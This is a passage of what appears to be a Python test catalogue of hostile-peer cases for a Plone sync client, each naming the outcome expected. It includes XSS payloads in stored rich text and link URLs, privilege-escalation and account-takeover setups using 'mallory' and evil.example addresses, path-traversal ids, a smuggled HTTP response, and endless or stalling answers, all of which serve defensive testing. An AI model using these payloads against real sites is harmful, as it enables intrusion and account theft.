        prepare=on_sharing(FOLDER, _overrides),
        target=FOLDER,
    )
add(
    "sharing-stock-authenticated-manager",
    "escalation",
    "sharing",
    "no-escalation",
    "Stock @sharing of folder gives AuthenticatedUsers Manager.",
    serves_sync_read=False,
    target=FOLDER,
    prepare=on_sharing(
        FOLDER,
        {
            "entries": [
                {
                    "id": "AuthenticatedUsers",
                    "type": "group",
                    "title": "Logged-in users",
                    "roles": {"Manager": True, "Reader": False},
                }
            ]
        },
    ),
)
add(
    "sharing-local-admin-roles",
    "escalation",
    "sync_read",
    "no-escalation",
    "folder's @sharing grants the local admin id nothing and lists Owner as shareable (takes local roles away).",
    prepare=lambda m, loc: m.at(FOLDER).sharing_overrides.update(
        {"entries": [{"id": loc.admin_id, "roles": {"Owner": False}}], "available_roles": [{"id": "Owner"}]}
    ),
    target=FOLDER,
)
for _label, _creators in [
    ("authenticated-users", ["AuthenticatedUsers"]),
    ("local-admin", None),
    ("anonymous", ["Anonymous User"]),
]:
    add(
        f"creators-{_label}",
        "escalation",
        "sync_read",
        "no-escalation",
        f"folder/page's first creator is {_creators or 'the local admin'} (the copy's Owner).",
        prepare=lambda m, loc, _c=_creators: m.at(PAGE).json_overrides.update({"creators": _c or [loc.admin_id]}),
        target=PAGE,
    )
# A layout this type does not offer here is not set: the object is written with its own, and
# the run warns.
for _label, _layout in [
    ("control-panel", "@@overview-controlpanel"),
    ("manage-main", "manage_main"),
    ("user-admin", "@@usergroup-userprefs"),
    ("traversal", "../../acl_users/manage_users"),
]:
    add(
        f"layout-{_label}",
        "escalation",
        "sync_read",
        "warning",
        f"folder/page's layout is {_layout!r}.",
        prepare=on_json(PAGE, {"layout": _layout}),
        target=PAGE,
    )
add(
    "review-state-published-private-history",
    "escalation",
    "sync_read",
    "ok",
    "about (private) is served as published with a history by 'admin' (a state the peer did not reach).",
    prepare=on_json(
        ABOUT,
        {
            "review_state": "published",
            ("@components", "workflow", "history"): [
                {"action": "publish", "actor": "admin", "comments": "", "review_state": "published", "time": MODIFIED}
            ],
        },
    ),
    target=ABOUT,
)


# -- registry ------------------------------------------------------------------------------------------------------

# Import Settings selects only the settings on its allow-list, never one on the deny-list:
# the peer's deny-listed records are not read into the site at all, which (e) checks, and
# there is nothing for the run to report ("ok"). A selected record of the wrong kind, or
# one this site does not have, is that record's error ("skip").
for _name, _record, _expect, _why in [
    ("webstats-js", Record(EVIL_JS, "string", factory="Text"), "ok", "script on every page"),
    ("webstats-head-js", Record(EVIL_JS, "string", factory="Text"), "ok", "script in every page's head"),
    ("enable-self-reg", Record(True, "boolean", factory="Yes/No"), "ok", "anyone may register"),
    ("enable-self-reg-string", Record("true", "string"), "ok", "a boolean record sent as a string"),
    ("enable-self-reg-int", Record(1, "integer"), "ok", "a boolean record sent as a number"),
    ("external-login-url", Record("https://evil.example/login", "string"), "ok", "logins go to another site"),
    ("external-logout-url", Record("https://evil.example/logout", "string"), "ok", "logouts go to another site"),
    ("smtp-pass", Record("hunter2", "string"), "ok", "a secret (must stay out)"),
    ("smtp-userid", Record("mailer", "string"), "ok", "mail credentials (must stay out)"),
    ("allow-anon-views-about", Record(True, "boolean"), "ok", "author pages for anonymous"),
    ("use-email-as-login", Record(True, "boolean"), "ok", "login names change meaning"),
    ("navigation-depth-string", Record("deep", "string"), "skip", "an integer record sent as a string"),
    ("displayed-types-string", Record("Document", "string"), "skip", "a tuple record sent as a string"),
    ("no-such-record", Record("x"), "skip", "a record this site does not have, under a selected prefix"),
]:
    _record_name = "plone." + _name.replace("-string", "").replace("-int", "").replace("-", "_")
    if _name == "no-such-record":
        _record_name = "my.addon.no_such_record_here"
    add(
        f"registry-{_name}",
        "registry",
        "registry",
        _expect,
        f"The peer's {_record_name}: {_why}.",
        prepare=lambda m, loc, _n=_record_name, _r=_record: m.registry.update({_n: _r}),
    )
add(
    "registry-theming-rules",
    "registry",
    "registry",
    "ok",
    "plone.app.theming rules point elsewhere (excluded prefix).",
    prepare=on_registry(**{"plone.app.theming.interfaces.IThemeSettings.rules": Record("{canary}/rules.xml")}),
)
add(
    "registry-page-500",
    "registry",
    "registry",
    "ok",
    "Registry pages holding plone.site_title answer 500 (as a non-JSON value does in Plone); the record alone is fine.",
    answer=record_alone(lambda x: None),
    endpoints=RECORD_ENDPOINTS,
)
add(
    "registry-record-hostile",
    "registry",
    "registry_record",
    "skip",
    "Pages with plone.site_title answer 500 and @registry/plone.site_title answers a script.",
    answer=record_alone(lambda x: json_answer(EVIL_JS)),
    endpoints=RECORD_ENDPOINTS,
    target="plone.site_title",
)
add(
    "registry-duplicate-names",
    "registry",
    "registry",
    "ok",
    "A registry page lists a record twice (with two values).",
    answer=new_items(lambda items, x: items + [dict(items[-1], value="second")] if items else items),
)


# -- principals ----------------------------------------------------------------------------------------------------


def _users(*users: User) -> Prepare:
    def prepare(model: PeerModel, _locals: Locals) -> None:
        model.users.extend(User(u.id, list(u.roles), u.fullname, u.email, u.username, dict(u.overrides)) for u in users)

    return prepare


def _member_of(group_id: str, *members: str, roles: list[str] | None = None) -> Prepare:
    def prepare(model: PeerModel, _locals: Locals) -> None:
        group = model.group(group_id)
        if group is None:
            group = Group(group_id, group_id, roles=roles or ["Authenticated"])
            model.groups.append(group)
        group.members.extend(members)

    return prepare


for _role in ("Manager", "Site Administrator", "Owner", "Editor"):
    add(
        f"user-role-{_role.lower().replace(' ', '-')}",
        "principals",
        "users",
        "no-escalation",
        f"A new peer user 'mallory' has the global role {_role}.",
        prepare=_users(User("mallory", ["Member", _role], "Mallory", "mallory@evil.example")),
    )
add(
    "user-roles-string",
    "principals",
    "users",
    "no-escalation",
    "A user's roles is the string 'Manager'.",
    prepare=_users(User("mallory", [], overrides={"roles": "Manager"})),
)
add(
    "existing-admin-email",
    "principals",
    "users",
    "no-escalation",
    "The peer has a user with the local admin's id and the attacker's e-mail (a password reset takes the account).",
    prepare=lambda m, loc: m.users.append(User(loc.admin_id, ["Member"], "Administrator", "attacker@evil.example")),
)
add(
    "existing-admin-login",
    "principals",
    "users",
    "no-escalation",
    "A new user whose login name is the local admin's id.",
    prepare=lambda m, loc: m.users.append(
        User("mallory", ["Member"], "Mallory", "m@evil.example", username=loc.admin_id)
    ),
)
add(
    "existing-user-site-administrator",
    "principals",
    "users",
    "no-escalation",
    "The peer makes a local user id a Site Administrator.",
    prepare=lambda m, loc: m.users.append(User(loc.user_id, ["Member", "Site Administrator"])),
)
add(
    "group-administrators-member",
    "principals",
    "groups",
    "no-escalation",
    "Administrators has a new member.",
    prepare=both(_users(User("mallory")), _member_of("Administrators", "mallory")),
)
add(
    "group-site-administrators-member",
    "principals",
    "groups",
    "no-escalation",
    "Site Administrators has a new member.",
    prepare=both(_users(User("mallory")), _member_of("Site Administrators", "mallory")),
)
add(
    "group-site-administrators-local-user",
    "principals",
    "groups",
    "no-escalation",
    "Site Administrators gets a local user id as member.",
    prepare=lambda m, loc: _member_of("Site Administrators", loc.user_id)(m, loc),
)
add(
    "group-custom-manager",
    "principals",
    "groups",
    "no-escalation",
    "A new group 'helpers' has the Manager role.",
    prepare=both(_users(User("mallory")), _member_of("helpers", "mallory", roles=["Manager", "Authenticated"])),
)
add(
    "group-custom-site-administrator",
    "principals",
    "groups",
    "no-escalation",
    "A new group 'helpers' has the Site Administrator role.",
    prepare=both(_users(User("mallory")), _member_of("helpers", "mallory", roles=["Site Administrator"])),
)
add(
    "group-nested-into-administrators",
    "principals",
    "groups",
    "no-escalation",
    "A group 'inner' is a member of Administrators; mallory is in 'inner'.",
    prepare=both(_users(User("mallory")), _member_of("inner", "mallory"), _member_of("Administrators", "inner")),
)
add(
    "group-authenticated-users-roles",
    "principals",
    "groups",
    "no-escalation",
    "AuthenticatedUsers has the Site Administrator role on the peer.",
    prepare=lambda m, loc: setattr(m.group("AuthenticatedUsers"), "roles", ["Site Administrator"]),
)
add(
    "group-id-is-local-user",
    "principals",
    "groups",
    "skip",
    "A peer group has the local admin's user id.",
    prepare=lambda m, loc: m.groups.append(Group(loc.admin_id, "Takeover", roles=["Site Administrator"])),
)
add(
    "user-id-is-local-group",
    "principals",
    "users",
    "skip",
    "A peer user is called 'Administrators'.",
    prepare=_users(User("Administrators", ["Member"])),
)
for _label, _user_id in [
    ("dotdot", "../admin"),
    ("empty", ""),
    ("long", "u" * 5000),
    ("slash", "a/b"),
    ("space", "admin "),
]:
    add(
        f"user-id-{_label}",
        "principals",
        "users",
        "skip",
        f"A peer user id is {_user_id[:40]!r}.",
        prepare=_users(User(_user_id, ["Member"])),
    )
add(
    "user-email-list",
    "principals",
    "users",
    "skip",
    "A user's email is a list.",
    prepare=_users(User("mallory", overrides={"email": ["a@example.org", "b@example.org"]})),
)
add(
    "group-members-object",
    "principals",
    "groups",
    "ok",
    "A group's members.items is an object.",
    answer=edit_data(lambda d, x: d[-1]["members"].update(items={"editor1": True})),
)


# -- http: status codes, bodies that are not JSON ---------------------------------------------------------------

# What a failure of each endpoint should lead to.
FAILURE: dict[str, str] = {
    "site": "error",
    "listing": "error",
    "sync_list": "error",
    "positions": "error",
    "default_pages": "error",
    "lookup": "no-delete",
    "fullobjects": "skip",
    "probe": "ok",
    "sync_read": "skip",
    "sharing": "skip",
    "download": "skip",
    "registry": "error",
    "registry_record": "skip",
    "users": "error",
    "groups": "error",
    "group": "skip",
}
STATUSES: dict[int, Callable[[Exchange], Answer]] = {
    302: login_redirect,
    401: lambda x: error_answer(401, "Unauthorized", "You are not authorized to access this resource."),
    404: lambda x: error_answer(404, "NotFound", f"Resource not found: {x.url}"),
    500: lambda x: error_answer(500, "InternalServerError", "ConflictError"),
}
for _endpoint in ENDPOINTS:
    if _endpoint == "object":
        continue  # the client never GETs an object
    for _status, _answer in STATUSES.items():
        add(
            f"http-{_status}-{_endpoint.replace('_', '-')}",
            "http",
            _endpoint,
            FAILURE[_endpoint],
            f"The {_endpoint} request answers HTTP {_status}.",
            answer=record_alone(_answer) if _endpoint == "registry_record" else _answer,
            endpoints=RECORD_ENDPOINTS if _endpoint == "registry_record" else None,
            target={"group": BIG_GROUP, "registry_record": "plone.site_title"}.get(_endpoint, ""),
            serves_sync_read=False if _endpoint in ("fullobjects", "sharing") else None,
            prepare=big_group if _endpoint == "group" else None,
        )
add(
    "http-503-retry-after-listing",
    "http",
    "listing",
    "error",
    "The listing answers 503 with Retry-After: 3600.",
    answer=lambda x: Answer(503, [("Retry-After", "3600"), ("Content-Type", "text/html")], b"<h1>maintenance</h1>"),
)
for _endpoint in ("site", "listing", "sync_list", "probe", "sync_read", "registry", "users", "groups"):
    add(
        f"not-json-{_endpoint.replace('_', '-')}",
        "http",
        _endpoint,
        FAILURE[_endpoint],
        f"The {_endpoint} answer is HTML labelled application/json.",
        answer=lambda x: raw_answer(b"<!DOCTYPE html><html><body>Welcome</body></html>"),
    )
for _endpoint in ("site", "listing", "sync_read", "download"):
    add(
        f"empty-200-{_endpoint.replace('_', '-')}",
        "http",
        _endpoint,
        FAILURE[_endpoint],
        f"The {_endpoint} request answers 200 with an empty body.",
        answer=lambda x: raw_answer(
            b"", content_type="application/octet-stream" if x.endpoint == "download" else "application/json"
        ),
    )
for _endpoint in ("site", "listing", "sync_read", "registry"):
    add(
        f"closes-mid-body-{_endpoint.replace('_', '-')}",
        "http",
        _endpoint,
        FAILURE[_endpoint],
        f"The {_endpoint} answer announces its length and closes halfway.",
        answer=lambda x: raw_answer(truncated(_bytes_of(x), len(_bytes_of(x)) // 2)),
        behaviour="breaks",
    )
add("json-null-listing", "http", "listing", "error", "The listing is JSON null.", answer=replaced(None))
add("json-list-listing", "http", "listing", "error", "The listing is a JSON list.", answer=lambda x: json_answer([]))
add(
    "json-bom-site",
    "http",
    "site",
    "ok",
    "The site's JSON starts with a UTF-8 byte-order mark.",
    answer=lambda x: raw_answer(b"\xef\xbb\xbf" + _bytes_of(x)),
)
add(
    "json-invalid-utf8-site",
    "http",
    "site",
    "error",
    "The site's JSON holds bytes that are not UTF-8.",
    answer=lambda x: raw_answer(b'{"@id": "' + x.base.encode() + b'", "title": "\xff\xfe\xfd"}'),
)
add(
    "json-trailing-garbage-listing",
    "http",
    "listing",
    "error",
    "The listing's JSON is followed by garbage.",
    answer=lambda x: raw_answer(_bytes_of(x) + b"}{<html>"),
)
add(
    "keepalive-smuggled-response",
    "http",
    "site",
    "ok",
    "The site's answer is followed, on the same connection, by a forged second answer.",
    answer=lambda x: (
        Answer(
            200,
            [("Content-Type", "application/json"), ("Content-Length", str(len(_bytes_of(x))))],
            _bytes_of(x) + SMUGGLED,
        )
        if x.hit == 1
        else None
    ),
)


def _bytes_of(x: Exchange) -> bytes:
    body = x.good().body
    assert isinstance(body, bytes)
    return body


# -- slow -----------------------------------------------------------------------------------------------------------

for _endpoint in (
    "site",
    "listing",
    "sync_list",
    "positions",
    "probe",
    "sync_read",
    "fullobjects",
    "sharing",
    "download",
    "registry",
    "users",
    "groups",
):
    add(
        f"hang-{_endpoint.replace('_', '-')}",
        "slow",
        _endpoint,
        "ok" if _endpoint == "probe" else "timeout",
        f"The {_endpoint} request gets no answer at all (not even a status line).",
        answer=lambda x: hang(),
        behaviour="hangs",
        serves_sync_read=False if _endpoint in ("fullobjects", "sharing") else None,
    )
for _endpoint in ("listing", "sync_read", "users"):
    add(
        f"drip-{_endpoint.replace('_', '-')}",
        "slow",
        _endpoint,
        "timeout",
        f"The {_endpoint} answer trickles one space every half second, for ever (no read ever times out).",
        answer=lambda x: raw_answer(drip(b"{", b" ", 0.5)),
        behaviour="streams",
    )
for _endpoint in ("listing", "sync_read"):
    add(
        f"stall-{_endpoint.replace('_', '-')}",
        "slow",
        _endpoint,
        "timeout",
        f"The {_endpoint} answer sends its status and a few bytes, then falls silent.",
        answer=lambda x: raw_answer(stall(b'{"items": [', 10_000)),
        behaviour="hangs",
    )


# -- @sync-list: the listing of a peer with the add-on -------------------------------------------------------------


def _all_listed(x: Exchange) -> list[dict[str, Any]]:
    """Every @sync-list item of the (prepared) model, in UID order."""
    return x.model.sync_list(x.base, [("b_size", str(x.model.SYNC_LIST_MAX_PAGE))])["items"]


def _page_size(x: Exchange) -> int:
    try:
        return max(min(int(x.param("b_size") or 1000), 1000), 1)
    except ValueError:
        return 1000


def _sync_list_backwards(x: Exchange) -> Answer | None:
    """Pages after the first go back: they hold the items before the cursor (a complete-looking page)."""
    cursor = x.param("UID.query")
    if not cursor:
        return None
    before = [item for item in _all_listed(x) if item["UID"] < cursor][-_page_size(x) :]
    remaining = sum(1 for item in _all_listed(x) if item["UID"] >= cursor)
    total = len(before) if len(before) < _page_size(x) else remaining
    return json_answer({"items": before, "items_total": total})


def _sync_list_stuck(x: Exchange) -> Answer | None:
    """Pages after the first hold the cursor's item only, b_size times, and claim a million more: a
    client that skips the cursor's item asks for the same page again, for ever."""
    cursor = x.param("UID.query")
    if not cursor:
        return None
    items = x.good_data()["items"]
    first = items[0] if items else synthetic(x, 0)
    return json_answer({"items": [first] * _page_size(x), "items_total": 10**6})


def _sync_list_endless(x: Exchange) -> Answer:
    """Full pages of new, increasing UIDs for ever (each honours the cursor and the page size)."""
    size = _page_size(x)
    last = x.param("UID.query") or ""
    start = int(last[4:], 16) if last.startswith("ffff") else 0
    items = lazy_array(size, lambda i: dict(synthetic(x, start + i), position=start + i, meta="0" * 40))
    return json_answer({"items": items, "items_total": 10**12})


def _sync_list_first_page(x: Exchange) -> Answer | None:
    if not x.param("UID.query"):
        return None
    return json_answer(x.model.sync_list(x.base, [(k, v) for k, v in x.query if not k.startswith("UID.")]))


PAGE_TWO = (("UID.query", uid(3)), ("UID.range", "min"))

# Wrong types in the hints of an item (folder/page): key, label, value, expect.
SYNC_LIST_TYPES: list[tuple[str, str, Any, str]] = [
    ("UID", "int", 12345, "error"),
    ("UID", "list", [uid(2)], "error"),
    ("@id", "int", 42, "error"),
    ("portal_type", "list", ["Document"], "error"),
    ("position", "string", "2", "ok"),
    ("position", "float", 1.5, "ok"),
    ("position", "null", None, "ok"),
    ("position", "bool", True, "ok"),
    ("position", "object", {"index": 0}, "ok"),
    ("position", "list", [0], "ok"),
    ("position", "negative", -1, "ok"),
    ("position", "huge", 10**30, "ok"),
    ("position", "nan", raw_json(b"NaN"), "error"),  # not JSON: a strict parser refuses the page
    ("meta", "int", 7, "ok"),
    ("meta", "list", ["0" * 40], "ok"),
    ("meta", "object", {"digest": "0" * 40}, "ok"),
    ("meta", "null", None, "ok"),
    ("meta", "bool", True, "ok"),
]
for _key, _label, _value, _expect in SYNC_LIST_TYPES:
    add(
        f"sync-list-{_key.strip('@').lower().replace('_', '')}-{_label}",
        "types",
        "sync_list",
        _expect,
        f"@sync-list gives folder/page a {_label} {_key}: {_value!r}.",
        prepare=on_list(PAGE, {_key: _value}),
    )
add(
    "sync-list-items-object",
    "types",
    "sync_list",
    "error",
    "@sync-list's items is an object, not a list.",
    answer=edit_data(lambda d, x: d.update(items={"0": d["items"][0]})),
)
add(
    "sync-list-item-string",
    "types",
    "sync_list",
    "error",
    "One item of @sync-list is a string, not an object.",
    answer=edit_items(lambda items, x: items.__setitem__(1, uid(1))),
)
for _key, _expect in [
    ("UID", "error"),
    ("@id", "no-delete"),
    ("portal_type", "skip"),
    ("position", "ok"),
    ("meta", "ok"),
    ("modified", "ok"),
    ("review_state", "ok"),
]:
    add(
        f"sync-list-item-no-{_key.strip('@').lower().replace('_', '-')}",
        "missing-keys",
        "sync_list",
        _expect,
        f"folder/page's @sync-list item has no {_key}.",
        prepare=on_list(PAGE, {_key: MISSING}),
    )
add(
    "sync-list-items-without-uid",
    "missing-keys",
    "sync_list",
    "error",
    "No @sync-list item has a UID.",
    answer=edit_items(_drop_from_items("UID")),
)
add(
    "sync-list-no-items",
    "missing-keys",
    "sync_list",
    "error",
    "@sync-list answers without items.",
    answer=edit_data(lambda d, x: d.pop("items")),
)
add(
    "sync-list-no-items-total",
    "missing-keys",
    "sync_list",
    "error",
    "@sync-list answers without items_total.",
    answer=edit_data(lambda d, x: d.pop("items_total")),
)
add(
    "sync-list-endless",
    "batching",
    "sync_list",
    "error",
    "@sync-list never ends: items_total 10**12, each page new increasing UIDs.",
    answer=_sync_list_endless,
)
add(
    "sync-list-stuck-at-cursor",
    "batching",
    "sync_list",
    "error",
    "Pages after the first repeat the cursor's item b_size times and claim a million more (a self-loop).",
    answer=_sync_list_stuck,
    query=PAGE_TWO,
)
add(
    "sync-list-repeats-first-page",
    "batching",
    "sync_list",
    "error",
    "Every @sync-list page is the first one (the cursor is ignored).",
    answer=_sync_list_first_page,
    query=PAGE_TWO,
)
add(
    "sync-list-goes-backwards",
    "batching",
    "sync_list",
    "error",
    "Pages after the first hold the items before the cursor.",
    answer=_sync_list_backwards,
    query=PAGE_TWO,
)
add(
    "sync-list-reversed",
    "batching",
    "sync_list",
    "error",
    "@sync-list pages are in descending UID order.",
    answer=new_items(lambda items, x: list(reversed(items))),
)
add(
    "sync-list-duplicate-uid",
    "batching",
    "sync_list",
    "error",
    "A @sync-list page holds one item twice.",
    answer=edit_items(lambda items, x: items.__setitem__(-1, dict(items[-2])) if len(items) > 1 else None),
)
add(
    "sync-list-short-page",
    "batching",
    "sync_list",
    "error",
    "A @sync-list page holds one item fewer than announced.",
    answer=edit_items(lambda items, x: items.pop()),
)
add(
    "sync-list-oversized-page",
    "batching",
    "sync_list",
    "error",
    "Every @sync-list page holds every item, whatever b_size says.",
    answer=lambda x: json_answer(
        {"items": [i for i in _all_listed(x) if i["UID"] >= (x.param("UID.query") or "")], "items_total": 10**6}
    ),
)
for _label, _change in [
    ("more", lambda d: d["items_total"] + 1),
    ("fewer", lambda d: d["items_total"] - 1),
    ("huge", lambda d: 10**12),
    ("negative", lambda d: -5),
    ("zero", lambda d: 0),
    ("float", lambda d: float(d["items_total"])),
    ("string", lambda d: str(d["items_total"])),
    ("bool", lambda d: True),
    ("null", lambda d: None),
    ("nan", lambda d: raw_json(b"NaN")),
]:
    add(
        f"sync-list-items-total-{_label}",
        "batching",
        "sync_list",
        "error",
        f"@sync-list's items_total lies ({_label}).",
        answer=edit_data(lambda d, x, _change=_change: d.update(items_total=_change(d))),
    )
add(
    "sync-list-omits-page",
    "batching",
    "sync_list",
    "no-delete",
    "@sync-list (consistently with its items_total) leaves out folder/page, which the peer still has.",
    prepare=unlisted(PAGE),
)
add(
    "sync-list-meta-10mb",
    "sizes",
    "sync_list",
    "error",
    "folder/page's @sync-list meta is 10 MB (it would be kept in the sync's state).",
    prepare=on_list(PAGE, {"meta": huge_string(10 * MB, b"a")}),
)
add(
    "sync-list-page-200k-items",
    "sizes",
    "sync_list",
    "error",
    "A @sync-list page holds 200,000 items whatever b_size says.",
    answer=lambda x: json_answer(
        {"items": lazy_array(200_000, lambda i: dict(synthetic(x, i), position=i, meta="")), "items_total": 200_000}
    ),
)
for _label, _url in [
    ("javascript", SCRIPT_URLS["javascript"]),
    ("off-origin", f"{LINK_LOCAL}/Plone/folder/page"),
    ("alias", "{alias}/Plone/folder/page"),
]:
    add(
        f"sync-list-id-{_label}",
        "urls",
        "sync_list",
        "no-delete",
        f"folder/page's @sync-list @id is {_url!r}.",
        prepare=on_list(PAGE, {"@id": _url}),
    )


# -- @stored-fields: what @sync-read serves as stored ----------------------------------------------------------------

for _label, _value, _expect, _category in [
    ("string", "text", "skip", "types"),
    ("object", {"text": True}, "skip", "types"),
    ("int", 7, "skip", "types"),
    ("ints", [1, 2], "skip", "types"),
    ("nested", [["text"]], "skip", "types"),
    ("null", None, "ok", "missing-keys"),
    ("missing", MISSING, "ok", "missing-keys"),
    ("not-stored-kinds", ["title", "description", "subjects", "creators", "text"], "ok", "types"),
    ("unknown-names", ["text", "no_such_field", "__class__", "../../acl_users", "@components", ""], "ok", "ids/paths"),
]:
    add(
        f"stored-fields-{_label}",
        _category,
        "sync_read",
        _expect,
        f"folder/page's @stored-fields is {_value!r}.",
        prepare=on_json(PAGE, {"@stored-fields": _value}),
        target=PAGE,
    )
add(
    "stored-fields-remote-url-on-document",
    "ids/paths",
    "sync_read",
    "ok",
    "folder/page (a Document) names remoteUrl stored, with a javascript: value (a field it does not have).",
    prepare=on_json(PAGE, {"@stored-fields": ["text", "remoteUrl"], "remoteUrl": SCRIPT_URLS["javascript"]}),
    target=PAGE,
)


def _stored_text(html: str) -> dict[str, Any]:
    return {"content-type": "text/html", "data": html, "encoding": "utf-8"}


for _label, _html in [
    (
        "href-javascript",
        f'<p><a href="javascript:alert(document.domain)">x</a> <a href="resolveuid/{uid(3)}">y</a></p>',
    ),
    ("href-javascript-entities", '<p><a href="&#106;avascript&#58;alert(1)">x</a></p>'),
    ("href-javascript-tab", '<p><a href="java\tscript:alert(1)">x</a></p>'),
    ("script-tag", f"<p>stored</p>{EVIL_JS}"),
    ("iframe-data", f'<p><iframe src="{SCRIPT_URLS["data"]}"></iframe></p>'),
    ("svg-onload", '<p><svg onload="alert(1)"></svg></p>'),
]:
    add(
        f"stored-text-{_label}",
        "urls",
        "sync_read",
        "sanitized",
        f"folder/page's rich text as stored (rendered: harmless): {_html!r}.",
        prepare=on_stored(PAGE, "text", _stored_text(_html)),
        target=PAGE,
    )
for _scheme in ("javascript", "data", "vbscript"):
    add(
        f"stored-remote-url-{_scheme}",
        "urls",
        "sync_read",
        "sanitized",
        f"The Link's raw remoteUrl is {SCRIPT_URLS[_scheme]!r} (rendered: harmless).",
        prepare=on_stored(LINK, "remoteUrl", SCRIPT_URLS[_scheme]),
        target=LINK,
    )


# -- the catalogue -----------------------------------------------------------------------------------------------

CASES: dict[str, Case] = {}
for _case in _catalogue:
    assert _case.name not in CASES, f"two cases are called {_case.name}"
    assert _case.behaviour in ("answers", "hangs", "streams", "breaks"), _case.name
    CASES[_case.name] = _case


def cases_by_category() -> dict[str, list[Case]]:
    """category -> its cases, in catalogue order (every category of CATEGORIES is present)."""
    grouped: dict[str, list[Case]] = defaultdict(list)
    for case in CASES.values():
        grouped[case.category].append(case)
    return {category: grouped[category] for category in CATEGORIES}
